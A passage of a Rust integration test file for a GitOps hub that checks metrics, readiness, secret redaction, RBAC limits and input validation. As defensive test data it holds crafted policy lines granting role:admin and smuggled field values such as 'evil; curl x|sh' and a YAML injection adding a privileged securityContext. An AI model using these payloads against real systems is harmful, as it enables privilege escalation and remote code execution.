        let (status, content_type, body) = hub.call_raw("GET", "/metrics", None, "").await;
        assert_eq!(status, 200);
        assert!(
            content_type.starts_with("text/plain; version=0.0.4"),
            "{content_type}"
        );
        let text = body.as_str().unwrap().to_owned();
        let samples = parse_exposition(&text);
        if sample(&samples, "flotilla_apps", &synced).is_some() {
            break (text, samples);
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the agent's report is not in the metrics: {text}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    let unknown = [("sync_status", "Unknown"), ("health_status", "Unknown")];
    assert_eq!(
        sample(&samples, "flotilla_apps", &synced),
        Some(1.0),
        "{text}"
    );
    assert_eq!(
        sample(&samples, "flotilla_apps", &unknown),
        Some(1.0),
        "{text}"
    );
    assert_eq!(sample(&samples, "flotilla_clusters", &[]), Some(1.0));
    assert_eq!(
        sample(&samples, "flotilla_agents_connected", &[]),
        Some(1.0)
    );
    assert_eq!(
        sample(&samples, "flotilla_bundle_pushes_total", &[]),
        Some(1.0)
    );
    assert!(sample(&samples, "flotilla_render_errors_total", &[]).is_some());
    assert!(sample(&samples, "flotilla_sync_duration_seconds_count", &[]).is_some());
    assert!(sample(&samples, "flotilla_render_duration_seconds_count", &[]).is_some());
    agent.stop().await.unwrap();
    hub.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn renders_are_timed_and_render_errors_counted_in_metrics() {
    let repo = source_fixture::WorkRepo::new();
    repo.write(
        "apps/good/cm.yaml",
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: good}\ndata: {v: \"1\"}\n",
    );
    repo.write("apps/bad/broken.yaml", "kind: [unclosed\n");
    repo.commit("two apps");
    let hub = start().await;
    hub.store
        .put_cluster(&ClusterRecord {
            name: "east".to_owned(),
            facts: Some(facts("uid-east")),
            ..Default::default()
        })
        .await
        .unwrap();
    let admin = hub.admin().await;
    for name in ["good", "bad"] {
        let app = format!(
            "apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata: {{name: {name}}}\nspec:\n  source: {{repoURL: '{}', path: apps/{name}, targetRevision: main}}\n  destination: {{name: east, namespace: shop}}\n",
            repo.path().display()
        );
        let (status, json) = hub
            .call("POST", "/api/v1/applications", Some(&admin), &app)
            .await;
        assert_eq!(status, 201, "{json}");
    }
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    loop {
        let (_, good) = hub
            .call("GET", "/api/v1/applications/default/good", Some(&admin), "")
            .await;
        let (_, bad) = hub
            .call("GET", "/api/v1/applications/default/bad", Some(&admin), "")
            .await;
        if good["renderedCommit"].is_string() && bad["renderError"].is_string() {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "not rendered: {good} {bad}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let (_, _, body) = hub.call_raw("GET", "/metrics", None, "").await;
    let samples = parse_exposition(body.as_str().unwrap());
    let renders = sample(&samples, "flotilla_render_duration_seconds_count", &[]).unwrap();
    assert!(renders >= 2.0, "{renders}");
    let errors = sample(&samples, "flotilla_render_errors_total", &[]).unwrap();
    assert!(errors >= 1.0, "{errors}");
    hub.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn readiness_waits_for_the_agent_link() {
    crypto();
    let dir = tempfile::tempdir().unwrap();
    let store = Store::open(&dir.path().join("db")).unwrap();
    let cache = RepoCache::new(dir.path().join("repos")).unwrap();
    let refresher = Refresher::new(store.clone(), cache, Renderer::new(Tools::from_env()))
        .await
        .unwrap();
    let config = Config {
        listen: "127.0.0.1:0".parse().unwrap(),
        webhook_secret: None,
        policy: flotilla_hub::server::default_policy(),
        admin_password: None,
        tls: ApiTls::Plain,
        link: None,
        agent_address: None,
    };
    let server = Server::start(config, store, refresher).await.unwrap();
    let base = format!("http://{}", server.local_addr());
    let response = reqwest::Client::new()
        .get(format!("{base}/readyz"))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status().as_u16(), 503);
    let json: Value = serde_json::from_str(&response.text().await.unwrap()).unwrap();
    assert_eq!(json["code"], 14);
    assert!(json["message"].as_str().unwrap().contains("agent link"));
    server.stop().await;
}

/// Everything the hub logs, from every test in this binary.
#[derive(Clone, Default)]
struct CapturedLog(Arc<Mutex<Vec<u8>>>);

impl std::io::Write for CapturedLog {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(buf);
        Ok(buf.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

/// Turns the captured log's level to OFF when dropped, pass or fail.
struct Capturing(reload::Handle<LevelFilter, Registry>);

impl Drop for Capturing {
    fn drop(&mut self) {
        let _ = self.0.modify(|level| *level = LevelFilter::OFF);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn no_response_or_log_line_holds_a_password_token_or_repo_credential() {
    let _alone = crate::support::alone().await;
    let log = CapturedLog::default();
    let writer = log.clone();
    let (level, level_handle) = reload::Layer::new(LevelFilter::TRACE);
    let subscriber = tracing_subscriber::registry().with(level).with(
        tracing_subscriber::fmt::layer()
            .with_ansi(false)
            .with_writer(move || writer.clone()),
    );
    // Global, since the hub logs from its runtime's worker threads; this is the
    // only test in this binary that sets one. It captures only while this test
    // runs, so the other tests of the binary do not log at TRACE into memory.
    tracing::subscriber::set_global_default(subscriber).unwrap();
    let _capturing = Capturing(level_handle);

    let hub = start().await;
    let mut secrets: Vec<String> = vec![ADMIN_PASSWORD.to_owned()];
    let mut responses: Vec<String> = Vec::new();

    let admin = hub.admin().await;
    secrets.push(admin.clone());
    let body = json!({"username": "admin", "password": "wrong-pw-5e2a"}).to_string();
    let (_, json) = hub.call("POST", "/api/v1/session", None, &body).await;
    responses.push(json.to_string());
    secrets.push("wrong-pw-5e2a".to_owned());

    hub.create_account(&admin, "deploy", "deploy-pw-83f1", &[])
        .await;
    secrets.push("deploy-pw-83f1".to_owned());
    let repo = json!({
        "url": "https://git.example/shop.git",
        "username": "ci",
        "password": "repo-token-4b7c",
        "webhookSecret": "hook-secret-9d0e",
    })
    .to_string();
    let (status, json) = hub
        .call("POST", "/api/v1/repositories", Some(&admin), &repo)
        .await;
    assert_eq!(status, 201, "{json}");
    responses.push(json.to_string());
    secrets.extend(["repo-token-4b7c".to_owned(), "hook-secret-9d0e".to_owned()]);
    let ssh = json!({"url": "git@git.example:shop/ssh.git", "sshPrivateKey": "-----BEGIN OPENSSH PRIVATE KEY-----\nkey-material-31c8\n-----END OPENSSH PRIVATE KEY-----\n"}).to_string();
    let (status, json) = hub
        .call("POST", "/api/v1/repositories", Some(&admin), &ssh)
        .await;
    assert_eq!(status, 201, "{json}");
    responses.push(json.to_string());
    secrets.push("key-material-31c8".to_owned());

    let (_, json) = hub
        .call("POST", "/api/v1/projects", Some(&admin), SHOP_PROJECT)
        .await;
    responses.push(json.to_string());
    let (_, issued) = hub
        .call(
            "POST",
            "/api/v1/projects/shop/roles/ci/token",
            Some(&admin),
            "",
        )
        .await;
    let role_token = issued["token"].as_str().unwrap().to_owned();
    secrets.push(role_token.clone());
    let (_, issued) = hub
        .call("POST", "/api/v1/account/deploy/token", Some(&admin), "")
        .await;
    let account_token = issued["token"].as_str().unwrap().to_owned();
    secrets.push(account_token.clone());
    let (_, added) = hub
        .call(
            "POST",
            "/api/v1/clusters",
            Some(&admin),
            r#"{"name":"east"}"#,
        )
        .await;
    let bootstrap = added["command"]
        .as_str()
        .unwrap()
        .split_whitespace()
        .skip_while(|w| *w != "--token")
        .nth(1)
        .unwrap()
        .to_owned();
    secrets.push(bootstrap);

    // Everything a client can read afterwards, with each kind of credential, and
    // every error a credential could be echoed in.
    for token in [admin.as_str(), role_token.as_str(), account_token.as_str()] {
        for path in [
            "/api/v1/repositories",
            "/api/v1/applications",
            "/api/v1/clusters",
            "/api/v1/clusters/east",
            "/api/v1/projects",
            "/api/v1/projects/shop",
            "/api/v1/projects/shop/roles/ci/token",
            "/api/v1/account/deploy/token",
            "/api/v1/session/userinfo",
            "/metrics",
        ] {
            let (_, json) = hub.call("GET", path, Some(token), "").await;
            responses.push(json.to_string());
        }
    }
    for bad in [
        format!("{role_token}x"),
        format!("{admin}x"),
        "repo-token-4b7c".to_owned(),
    ] {
        let (_, json) = hub
            .call("GET", "/api/v1/repositories", Some(&bad), "")
            .await;
        responses.push(json.to_string());
    }
    let (_, json) = hub
        .call("POST", "/api/v1/repositories", Some(&admin), r#"{"url": "https://git.example/x.git", "password": "p-2f9a", "sshPrivateKey": "k-2f9a"}"#)
        .await;
    responses.push(json.to_string());
    secrets.extend(["p-2f9a".to_owned(), "k-2f9a".to_owned()]);
    let events = serde_json::to_string(&hub.store.events().unwrap()).unwrap();
    hub.stop().await;

    let logged = String::from_utf8_lossy(&log.0.lock().unwrap()).into_owned();
    assert!(logged.contains("hub API listening"), "the log was captured");
    for secret in &secrets {
        for (i, response) in responses.iter().enumerate() {
            assert!(
                !response.contains(secret.as_str()),
                "response {i} holds a secret: {response}"
            );
        }
        assert!(!logged.contains(secret.as_str()), "the log holds a secret");
        assert!(
            !events.contains(secret.as_str()),
            "the audit log holds a secret"
        );
    }
    let _ = std::io::stderr().flush();
}

/// Creates an AppProject through the API; the status and the answer.
async fn post_project(hub: &Running, token: &str, project: &str) -> (u16, Value) {
    hub.call("POST", "/api/v1/projects", Some(token), project)
        .await
}

fn project_with_policy(name: &str, role: &str, policy: &str) -> String {
    format!(
        "apiVersion: argoproj.io/v1alpha1\nkind: AppProject\nmetadata: {{name: {name}}}\nspec:\n  roles:\n    - name: {role}\n      policies:\n        - {}\n",
        serde_json::to_string(policy).unwrap()
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn a_project_role_that_reaches_beyond_its_project_is_refused_and_never_takes_effect() {
    let hub = start().await;
    let admin = hub.admin().await;
    hub.create_account(&admin, "mallory", "mallory-pw", &[])
        .await;
    let mallory = hub.login("mallory", "mallory-pw").await;

    // Each would make mallory (or everyone) admin, or reach another project.
    let hostile = [
        "p, proj:evil:r, applications, get, evil/*, allow\ng, mallory, role:admin",
        "g, mallory, role:admin",
        "p, proj:evil:r, clusters, *, *, allow",
        "p, proj:evil:r, *, *, evil/*, allow",
        "p, proj:evil:r, projects, update, evil, allow",
        "p, proj:evil:r, applications, *, */*, allow",
        "p, proj:evil:r, applications, *, evil*/*, allow",
        "p, proj:evil:r, applications, *, evil/{a,b}, allow",
        "p, role:admin, applications, *, evil/*, allow",
        "p, \"proj:evil:r\", applications, *, \"evil/x,*\", allow",
    ];
    for policy in hostile {
        let (status, json) =
            post_project(&hub, &admin, &project_with_policy("evil", "r", policy)).await;
        assert_json_error(status, &json, 400, 3);
        assert!(
            json["message"].as_str().unwrap().contains("proj:evil:r"),
            "{policy}: {json}"
        );
        assert!(hub.store.project("evil").unwrap().is_none(), "{policy}");
    }
    // A role name that would make another subject, and a project named as a glob.
    let (status, json) = post_project(
        &hub,
        &admin,
        &project_with_policy(
            "evil",
            "r:x",
            "p, proj:evil:r:x, applications, get, evil/*, allow",
        ),
    )
    .await;
    assert_json_error(status, &json, 400, 3);
    for name in ["'*'", "'a:b'", "'a/b'"] {
        let (status, json) = post_project(
            &hub,
            &admin,
            &format!("apiVersion: argoproj.io/v1alpha1\nkind: AppProject\nmetadata: {{name: {name}}}\nspec: {{}}\n"),
        )
        .await;
        assert_json_error(status, &json, 400, 3);
        assert!(
            json["message"].as_str().unwrap().contains("metadata.name"),
            "{json}"
        );
    }

    // What Argo CD allows a project role is still taken.
    let (status, json) = post_project(
        &hub,
        &admin,
        &project_with_policy(
            "good",
            "ci",
            "p, proj:good:ci, applications, sync, good/*, allow",
        ),
    )
    .await;
    assert_eq!(status, 201, "{json}");

    // A project stored some other way (adopted from Git) with a g line grants
    // nothing: its roles are left out whole.
    let stored = flotilla_hub::app::parse_manifests(
        &project_with_policy(
            "stored",
            "r",
            "p, proj:stored:r, applications, get, stored/*, allow\ng, mallory, role:admin",
        ),
        "test",
    )
    .unwrap();
    let flotilla_hub::app::Manifest::AppProject(stored) = &stored[0] else {
        panic!("an AppProject")
    };
    hub.store.put_project(stored).await.unwrap();
    let (status, json) = hub
        .call(
            "POST",
            "/api/v1/clusters",
            Some(&mallory),
            r#"{"name":"east"}"#,
        )
        .await;
    assert_json_error(status, &json, 403, 7);
    hub.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_account_never_holds_more_than_its_creator_and_names_no_role() {
    let hub = start_with_policy(
        ApiTls::HubCa,
        "p, role:hr, accounts, create, *, allow\ng, hr, role:hr\ng, ops-team, role:deployer\ng, carol, role:deployer",
    )
    .await;
    let admin = hub.admin().await;
    let post = |token: String, body: Value| {
        let hub = &hub;
        async move {
            hub.call("POST", "/api/v1/accounts", Some(&token), &body.to_string())
                .await
        }
    };
    // Names that are roles, project roles, globs or odd text are refused.
    for name in [
        "role:admin",
        "proj:shop:ci",
        "*",
        "",
        "Admin",
        "a b",
        "a,b",
        "-x",
    ] {
        let (status, json) = post(
            admin.clone(),
            json!({"name": name, "password": "long-enough-pw"}),
        )
        .await;
        assert_json_error(status, &json, 400, 3);
        assert!(
            json["message"].as_str().unwrap().contains("name"),
            "{name}: {json}"
        );
    }
    let (status, json) = post(admin.clone(), json!({"name": "short", "password": "pw"})).await;
    assert_json_error(status, &json, 400, 3);
    assert!(!json.to_string().contains("\"pw\""), "{json}");
    let (status, json) = post(
        admin.clone(),
        json!({"name": "odd", "password": "long-enough-pw", "groups": ["a,b"]}),
    )
    .await;
    assert_json_error(status, &json, 400, 3);

    // Someone who may create accounts but is no admin gives no role they lack:
    // not role:admin, not a group the policy grants to, not a name it grants to.
    hub.create_account(&admin, "hr", "hr-password", &[]).await;
    let hr = hub.login("hr", "hr-password").await;
    for (name, groups, holding) in [
        ("newbie", vec!["role:admin"], "role:admin"),
        ("newbie", vec!["ops-team"], "ops-team"),
        ("carol", vec![], "carol"),
    ] {
        let (status, json) = post(
            hr.clone(),
            json!({"name": name, "password": "long-enough-pw", "groups": groups}),
        )
        .await;
        assert_json_error(status, &json, 403, 7);
        assert!(
            json["message"].as_str().unwrap().contains(holding),
            "{name} {groups:?}: {json}"
        );
        let (status, _) = hub
            .call(
                "POST",
                "/api/v1/session",
                None,
                &json!({"username": name, "password": "long-enough-pw"}).to_string(),
            )
            .await;
        assert_eq!(status, 401, "{name} was created");
    }
    // What hr holds, hr may give.
    for body in [
        json!({"name": "plain", "password": "long-enough-pw"}),
        json!({"name": "helper", "password": "long-enough-pw", "groups": ["role:hr"]}),
    ] {
        let (status, json) = post(hr.clone(), body).await;
        assert_eq!(status, 201, "{json}");
    }
    // An admin may give anything.
    hub.create_account(&admin, "lead", "lead-password", &["role:admin"])
        .await;
    hub.stop().await;
}

const SECRET_DESIRED: &str = "apiVersion: v1\nkind: Secret\nmetadata: {name: db, namespace: web}\ndata:\n  user: YWRtaW4=\n  password: bmV3LXB3ZC0xMjM=\n";

/// Answers every Diff with a Secret whose password changed in the cluster, as
/// the apply engine reads it (the live side holds `kubectl apply`'s copy too).
#[derive(Clone, Copy)]
struct SecretDiff;

impl Applier for SecretDiff {
    async fn apply(&self, bundle: &Bundle) -> ApplyReport {
        flotilla_agent::link::AckOnly.apply(bundle).await
    }

    fn command(
        &self,
        command: flotilla_common::message::Command,
    ) -> impl Future<Output = flotilla_agent::link::CommandReport> + Send + 'static {
        use flotilla_common::message::{CommandOutcome, CommandResult, ResourceDiff};
        let copy = r#"{"apiVersion":"v1","kind":"Secret","metadata":{"name":"db"},"stringData":{"password":"old-pwd-456"}}"#;
        let live = json!({
            "apiVersion": "v1",
            "kind": "Secret",
            "metadata": {
                "name": "db",
                "namespace": "web",
                "annotations": {"kubectl.kubernetes.io/last-applied-configuration": copy},
            },
            "data": {"user": "YWRtaW4=", "password": "b2xkLXB3ZC00NTY="},
        });
        let diffs = vec![ResourceDiff {
            resource: flotilla_common::model::ResourceRef {
                gvk: flotilla_common::model::Gvk::new("", "v1", "Secret"),
                namespace: Some("web".to_owned()),
                name: "db".to_owned(),
            },
            desired: Some(SECRET_DESIRED.to_owned()),
            live: Some(serde_saphyr::to_string(&live).unwrap()),
        }];
        std::future::ready(flotilla_agent::link::CommandReport {
            result: CommandResult {
                request_id: command.request_id,
                outcome: CommandOutcome::Done {
                    message: "compared".to_owned(),
                },
                drift: Vec::new(),
                diffs,
            },
            status: None,
        })
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_diff_shows_that_a_secret_changed_and_never_its_values() {
    let hub = start().await;
    let admin = hub.admin().await;
    hub.create_account(&admin, "viewer", "viewer-pw", &[]).await;
    let viewer = hub.login("viewer", "viewer-pw").await;
    let (status, added) = hub
        .call(
            "POST",
            "/api/v1/clusters",
            Some(&admin),
            r#"{"name":"east"}"#,
        )
        .await;
    assert_eq!(status, 201, "{added}");
    let token = added["command"]
        .as_str()
        .unwrap()
        .split_whitespace()
        .skip_while(|w| *w != "--token")
        .nth(1)
        .unwrap()
        .to_owned();
    let agent_dir = tempfile::tempdir().unwrap();
    let mut agent = RunningAgent::start_with(
        agent_config(&hub, "east", token, agent_dir.path()),
        SecretDiff,
    );
    agent.wait("connected", |s| s.connected).await;
    let app = flotilla_hub::app::Application::from_yaml(
        "apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata: {name: web}\nspec:\n  project: default\n  source: {repoURL: '/nonexistent-flotilla-test/web.git', path: web, targetRevision: main}\n  destination: {name: east, namespace: web}\n",
        "test",
    )
    .unwrap();
    hub.store
        .put_app(&flotilla_hub::store::AppRecord::new(
            app,
            flotilla_hub::store::AppOrigin::Store,
        ))
        .await
        .unwrap();
    let envelope = link_fixture::sign(&hub.store, "east", "web", 1, 1, 16).await;
    hub.store
        .put_bundle("default", "web", "east", 1, &envelope.encode().unwrap())
        .await
        .unwrap();

    let (status, _, body) = hub
        .call_raw(
            "GET",
            "/api/v1/applications/default/web/diff",
            Some(&viewer),
            "",
        )
        .await;
    assert_eq!(status, 200, "{body}");
    let text = body.to_string();
    for secret in [
        "YWRtaW4=",
        "bmV3LXB3ZC0xMjM=",
        "b2xkLXB3ZC00NTY=",
        "old-pwd-456",
        "new-pwd-123",
    ] {
        assert!(!text.contains(secret), "{secret} shown: {text}");
    }
    let diff = &body["clusters"][0]["diffs"][0];
    assert_eq!(diff["kind"], "Secret", "{body}");
    let side =
        |key: &str| -> Value { serde_saphyr::from_str(diff[key].as_str().unwrap()).unwrap() };
    let (desired, live) = (side("desired"), side("live"));
    assert_eq!(
        desired["data"]["user"], live["data"]["user"],
        "unchanged: equal masks"
    );
    assert_ne!(
        desired["data"]["password"], live["data"]["password"],
        "changed: the diff still shows it"
    );
    assert!(
        desired["data"]["password"]
            .as_str()
            .unwrap()
            .starts_with("++++")
    );
    let _ = agent.stop().await;
    hub.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_lifetime_past_what_a_clock_counts_is_a_clear_400() {
    let hub = start().await;
    let admin = hub.admin().await;
    let body = json!({"name": "east", "tokenTtlMinutes": u64::MAX}).to_string();
    let (status, json) = hub
        .call("POST", "/api/v1/clusters", Some(&admin), &body)
        .await;
    assert_json_error(status, &json, 400, 3);
    assert!(
        json["message"]
            .as_str()
            .unwrap()
            .contains("tokenTtlMinutes"),
        "{json}"
    );
    hub.create_account(&admin, "deploy", "deploy-pw", &[]).await;
    for secs in [u64::MAX, u64::MAX / 1000, u64::MAX / 60] {
        let body = json!({"expiresIn": secs}).to_string();
        let (status, json) = hub
            .call("POST", "/api/v1/account/deploy/token", Some(&admin), &body)
            .await;
        assert_json_error(status, &json, 400, 3);
        assert!(
            json["message"].as_str().unwrap().contains("expiresIn"),
            "{json}"
        );
    }
    let body = json!({"url": "/nonexistent-flotilla-test/r.git", "pollIntervalSeconds": u64::MAX})
        .to_string();
    let (status, json) = hub
        .call("POST", "/api/v1/repositories", Some(&admin), &body)
        .await;
    assert_json_error(status, &json, 400, 3);
    assert!(
        json["message"]
            .as_str()
            .unwrap()
            .contains("pollIntervalSeconds"),
        "{json}"
    );
    assert!(hub.store.repos().unwrap().is_empty());
    // The hub still answers.
    let (status, _) = hub.call("GET", "/healthz", None, "").await;
    assert_eq!(status, 200);
    hub.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn cluster_add_writes_no_yaml_or_shell_from_the_request_into_the_manifest() {
    let hub = start().await;
    let admin = hub.admin().await;
    for (field, value) in [
        ("hubAddress", "hub:7443\"\n  FLOTILLA_EXTRA: \"x"),
        ("hubAddress", "hub:7443 --insecure"),
        ("hubAddress", "hub"),
        (
            "image",
            "evil\n          securityContext: {privileged: true}\n#",
        ),
        ("image", "evil; curl x|sh"),
        ("image", ""),
    ] {
        let body = json!({"name": "east", field: value}).to_string();
        let (status, json) = hub
            .call("POST", "/api/v1/clusters", Some(&admin), &body)
            .await;
        assert_json_error(status, &json, 400, 3);
        assert!(json["message"].as_str().unwrap().contains(field), "{json}");
    }
    // Nothing was registered; a plain request still works.
    let (_, list) = hub.call("GET", "/api/v1/clusters", Some(&admin), "").await;
    assert_eq!(list["items"], json!([]), "{list}");
    let body = json!({"name": "east", "hubAddress": "hub.example:7443", "image": "registry.example:5000/flotilla/agent"}).to_string();
    let (status, added) = hub
        .call("POST", "/api/v1/clusters", Some(&admin), &body)
        .await;
    assert_eq!(status, 201, "{added}");
    assert!(
        added["manifest"]
            .as_str()
            .unwrap()
            .contains("image: registry.example:5000/flotilla/agent:")
    );
    hub.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn who_may_not_delete_a_repository_learns_nothing_of_whether_it_exists() {
    let hub = start().await;
    let admin = hub.admin().await;
    hub.create_account(&admin, "viewer", "viewer-pw", &[]).await;
    let viewer = hub.login("viewer", "viewer-pw").await;
    let body = json!({"url": "/nonexistent-flotilla-test/kept.git"}).to_string();
    let (status, json) = hub
        .call("POST", "/api/v1/repositories", Some(&admin), &body)
        .await;
    assert_eq!(status, 201, "{json}");
    let there = hub
        .call(
            "DELETE",
            "/api/v1/repositories/%2Fnonexistent-flotilla-test%2Fkept.git",
            Some(&viewer),
            "",
        )
        .await;
    let missing = hub
        .call(
            "DELETE",
            "/api/v1/repositories/%2Fnonexistent-flotilla-test%2Fnone.git",
            Some(&viewer),
            "",
        )
        .await;
    assert_json_error(there.0, &there.1, 403, 7);
    assert_json_error(missing.0, &missing.1, 403, 7);
    let (status, json) = hub
        .call(
            "DELETE",
            "/api/v1/repositories/%2Fnonexistent-flotilla-test%2Fnone.git",
            Some(&admin),
            "",
        )
        .await;
    assert_json_error(status, &json, 404, 5);
    hub.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_app_its_project_forbids_is_refused_at_create_and_repo_passwords_never_show() {
    let hub = start().await;
    let admin = hub.admin().await;
    let locked = "apiVersion: argoproj.io/v1alpha1\nkind: AppProject\nmetadata: {name: locked, namespace: argocd}\nspec:\n  sourceRepos: ['https://*git.example/locked/*']\n  destinations: [{name: '*', namespace: 'locked-*'}]\n";
    let (status, json) = hub
        .call("POST", "/api/v1/projects", Some(&admin), locked)
        .await;
    assert_eq!(status, 201, "{json}");
    let app = |name: &str, repo: &str, namespace: &str| {
        format!(
            "apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata: {{name: {name}}}\nspec:\n  project: locked\n  source: {{repoURL: '{repo}', path: web, targetRevision: main}}\n  destination: {{name: east, namespace: {namespace}}}\n"
        )
    };
    for (name, repo, namespace, rule) in [
        (
            "other-repo",
            "https://bob:pw-77aa@git.example/other/x.git",
            "locked-a",
            "spec.sourceRepos",
        ),
        (
            "other-ns",
            "https://git.example/locked/x.git",
            "kube-system",
            "spec.destinations",
        ),
    ] {
        let (status, json) = hub
            .call(
                "POST",
                "/api/v1/applications",
                Some(&admin),
                &app(name, repo, namespace),
            )
            .await;
        assert_eq!(status, 400, "{name}: {json}");
        assert!(json.to_string().contains(rule), "{name}: {json}");
        assert!(!json.to_string().contains("pw-77aa"), "{json}");
        let (status, _) = hub
            .call(
                "GET",
                &format!("/api/v1/applications/locked/{name}"),
                Some(&admin),
                "",
            )
            .await;
        assert_eq!(status, 404, "{name} was stored");
    }
    let (status, json) = hub
        .call(
            "POST",
            "/api/v1/applications",
            Some(&admin),
            &app(
                "allowed",
                "https://bob:pw-77aa@git.example/locked/x.git",
                "locked-a",
            ),
        )
        .await;
    assert_eq!(status, 201, "{json}");
    assert!(!json.to_string().contains("pw-77aa"), "{json}");
    let (_, listed) = hub
        .call("GET", "/api/v1/applications", Some(&admin), "")
        .await;
    assert!(!listed.to_string().contains("pw-77aa"), "{listed}");
    assert!(
        listed.to_string().contains("git.example/locked/x.git"),
        "{listed}"
    );
    hub.stop().await;
}

/// Finding 12: a cluster's server URL, which `destination.server` is matched
/// against, is the admin's; an agent claiming another cluster's URL about
/// itself gets nothing of it.
#[tokio::test(flavor = "multi_thread")]
async fn a_clusters_server_url_is_set_by_the_admin_and_never_by_its_agent() {
    let hub = start().await;
    let admin = hub.admin().await;
    let east_url = "https://east.example:6443";
    let body = json!({"name": "east", "server": format!("{east_url}/")}).to_string();
    let (status, json) = hub
        .call("POST", "/api/v1/clusters", Some(&admin), &body)
        .await;
    assert_eq!(status, 201, "{json}");
    let (_, east) = hub
        .call("GET", "/api/v1/clusters/east", Some(&admin), "")
        .await;
    assert_eq!(east["state"], "Pending");
    assert_eq!(east["server"], east_url);
    // Another cluster cannot take east's URL, and a URL must be one.
    let taken = json!({"name": "north", "server": east_url}).to_string();
    let (status, json) = hub
        .call("POST", "/api/v1/clusters", Some(&admin), &taken)
        .await;
    assert_json_error(status, &json, 409, 6);
    let bad = json!({"name": "north", "server": "east.example:6443"}).to_string();
    let (status, json) = hub
        .call("POST", "/api/v1/clusters", Some(&admin), &bad)
        .await;
    assert_json_error(status, &json, 400, 3);

    // West's agent registers reporting east's URL as its own.
    let (status, added) = hub
        .call(
            "POST",
            "/api/v1/clusters",
            Some(&admin),
            &json!({"name": "west"}).to_string(),
        )
        .await;
    assert_eq!(status, 201, "{added}");
    let token = added["command"]
        .as_str()
        .unwrap()
        .split_whitespace()
        .skip_while(|w| *w != "--token")
        .nth(1)
        .unwrap()
        .to_owned();
    let agent_dir = tempfile::tempdir().unwrap();
    let mut config = agent_config(&hub, "west", token, agent_dir.path());
    config.facts.api_server_url = east_url.to_owned();
    let mut agent = RunningAgent::start(config);
    agent.wait("connected", |s| s.connected).await;
    let (_, west) = hub
        .call("GET", "/api/v1/clusters/west", Some(&admin), "")
        .await;
    assert_eq!(west["server"], Value::Null, "{west}");
    assert_eq!(west["facts"]["apiServerUrl"], east_url);
    let dest = flotilla_hub::app::Destination {
        name: None,
        server: Some(east_url.to_owned()),
        namespace: None,
    };
    let west_record = hub.store.cluster("west").unwrap().unwrap();
    assert!(!west_record.is_destination(&dest));

    // The admin sets west's URL later; east's stays east's.
    let path = "/api/v1/clusters/west";
    let set = json!({"server": "https://west.example:6443"}).to_string();
    let (status, json) = hub.call("PATCH", path, Some(&admin), &set).await;
    assert_eq!(status, 200, "{json}");
    assert_eq!(json["server"], "https://west.example:6443");
    let (_, west) = hub.call("GET", path, Some(&admin), "").await;
    assert_eq!(west["server"], "https://west.example:6443");
    let steal = json!({"server": east_url}).to_string();
    let (status, json) = hub.call("PATCH", path, Some(&admin), &steal).await;
    assert_json_error(status, &json, 409, 6);
    let (status, json) = hub
        .call("PATCH", "/api/v1/clusters/nope", Some(&admin), &set)
        .await;
    assert_json_error(status, &json, 404, 5);
    let (status, json) = hub.call("PATCH", path, None, &set).await;
    assert_eq!(status, 401, "{json}");
    let updates = hub
        .store
        .events()
        .unwrap()
        .into_iter()
        .filter(|e| e.target == "cluster/west" && e.action == "update")
        .count();
    assert_eq!(updates, 1);
    let _ = agent.stop().await;
    hub.stop().await;
}

/// `/api/v1/rollouts` is Argo CD's `applicationsets` resource on
/// `PROJECT/SET`: readonly sees rollouts, `update` pauses and resumes, and only
/// `sync` promotes, aborts or retries, since those move clusters.
#[tokio::test]
async fn rollouts_are_guarded_by_applicationsets_get_update_and_sync() {
    let hub = start_with_policy(
        ApiTls::Plain,
        "p, role:pauser, applicationsets, update, shop/*, allow\np, role:pauser, applicationsets, get, shop/*, allow\n",
    )
    .await;
    let admin = hub.admin().await;
    hub.create_account(&admin, "viewer", "viewer-pw", &[]).await;
    hub.create_account(&admin, "pauser", "pauser-pw", &["role:pauser"])
        .await;
    let viewer = hub.login("viewer", "viewer-pw").await;
    let pauser = hub.login("pauser", "pauser-pw").await;
    hub.store
        .put_rollout(&flotilla_hub::store::RolloutRecord {
            name: "web".to_owned(),
            parent: "shop/root".to_owned(),
            phase: flotilla_hub::store::RolloutPhase::Progressing,
            progress_deadline_ms: 3_600_000,
            // An app waiting for its agent, so the hub's own ticks leave the
            // rollout Progressing.
            apps: vec![flotilla_hub::store::AppProgress {
                project: "shop".to_owned(),
                name: "web-east".to_owned(),
                phase: flotilla_hub::store::AppPhase::Updating,
                clusters: vec![flotilla_hub::store::ClusterProgress {
                    cluster: "east".to_owned(),
                    before: None,
                    released: Some(1),
                }],
                started_ms: Some(flotilla_hub::clock::epoch_ms(std::time::SystemTime::now())),
                ..Default::default()
            }],
            ..Default::default()
        })
        .await
        .unwrap();

    let (status, list) = hub.call("GET", "/api/v1/rollouts", Some(&viewer), "").await;
    assert_eq!(status, 200, "{list}");
    assert_eq!(list["items"][0]["name"], "web");
    assert_eq!(list["items"][0]["phase"], "Progressing");
    let (status, json) = hub
        .call("POST", "/api/v1/rollouts/web/pause", Some(&viewer), "")
        .await;
    assert_json_error(status, &json, 403, 7);

    let (status, json) = hub
        .call("POST", "/api/v1/rollouts/web/pause", Some(&pauser), "")
        .await;
    assert_eq!(status, 200, "{json}");
    assert_eq!(json["paused"], true);
    let (status, json) = hub
